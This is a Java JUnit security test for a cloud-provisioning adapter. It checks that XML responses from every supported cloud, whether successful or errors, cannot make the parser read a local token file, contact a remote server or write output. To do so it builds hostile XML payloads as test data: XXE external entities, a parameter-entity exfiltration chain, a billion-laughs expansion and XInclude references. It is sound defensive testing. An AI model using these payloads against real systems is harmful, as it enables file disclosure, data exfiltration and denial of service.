package dev.provision.adapter.jclouds.answer;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import dev.provision.adapter.jclouds.EveryCloud;
import dev.provision.adapter.jclouds.RawServer;
import dev.provision.ports.cloud.CloudException;
import dev.provision.ports.cloud.CloudPort;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintStream;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/// Whatever XML a cloud answers, with success or with an error: no file is read for it, nothing is
/// fetched, and the parser says nothing itself.
final class XmlSafetyTest {
  private static final String ANSWER =
      "<DescribeInstancesResponse><reservationSet><item><instancesSet><item><instanceId>%s"
          + "</instanceId></item></instancesSet></item></reservationSet></DescribeInstancesResponse>";

  private static final String ERROR =
      "<Response><Errors><Error><Code>X</Code><Message>%s</Message></Error></Errors></Response>";

  @TempDir Path directory;

  private final RawServer elsewhere = RawServer.elsewhere();
  private final ByteArrayOutputStream written = new ByteArrayOutputStream();
  private final PrintStream usual = System.err;

  @BeforeEach
  void listen() {
    System.setErr(new PrintStream(written, true, UTF_8));
  }

  @AfterEach
  void close() {
    System.setErr(usual);
    elsewhere.close();
  }

  static Stream<Arguments> everywhere() {
    return EveryCloud.names()
        .flatMap(name -> Stream.of(200, 400, 401, 500).map(status -> Arguments.of(name, status)));
  }

  private List<String> hostile(Path secret, String form) {
    String lol =
        "<!DOCTYPE a [<!ENTITY x0 \"lol\">"
            + java.util.stream.IntStream.rangeClosed(1, 9)
                .mapToObj(
                    i -> "<!ENTITY x%s \"%s\">".formatted(i, "&x%s;".formatted(i - 1).repeat(10)))
                .collect(java.util.stream.Collectors.joining())
            + "]>";
    return List.of(
        "<!DOCTYPE a [<!ENTITY x SYSTEM \"" + secret.toUri() + "\">]>" + form.formatted("&x;"),
        "<!DOCTYPE a [<!ENTITY x SYSTEM \"" + elsewhere.url() + "/x\">]>" + form.formatted("&x;"),
        "<!DOCTYPE a SYSTEM \"" + elsewhere.url() + "/a.dtd\">" + form.formatted("x"),
        "<!DOCTYPE a [<!ENTITY % f SYSTEM \""
            + secret.toUri()
            + "\"><!ENTITY % d SYSTEM \""
            + elsewhere.url()
            + "/x.dtd\"> %d;]>"
            + form.replace("%s", "&send;"),
        lol + form.formatted("&x9;"),
        "<?xml-stylesheet href=\""
            + elsewhere.url()
            + "/s\"?><a xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\""
            + secret.toUri()
            + "\"/></a>",
        "<html><p>Bad <b>gateway</html>");
  }

  @ParameterizedTest
  @MethodSource("everywhere")
  void nothing_is_read_or_fetched_for_a_document_type(String name, int status) throws IOException {
    Path secret = Files.writeString(directory.resolve("token"), "TOKEN-of-another-cloud");
    for (String body : hostile(secret, status == 200 ? ANSWER : ERROR)) {
      try (RawServer server =
              RawServer.saying("HTTP/1.1 " + status + " X\r\nContent-Type: text/xml", body);
          CloudPort port = EveryCloud.port(name, server.url())) {
        CloudException e = catchThrowableOfType(CloudException.class, port::nodes);

        assertThat(e).as(body).isNotNull();
        StringWriter all = new StringWriter();
        e.printStackTrace(new PrintWriter(all));
        assertThat(all.toString()).doesNotContain("TOKEN-of-another-cloud", "lollol");
      }
    }
    assertThat(elsewhere.requests()).isEmpty();
    assertThat(written.toString(UTF_8)).isEmpty();
  }
}
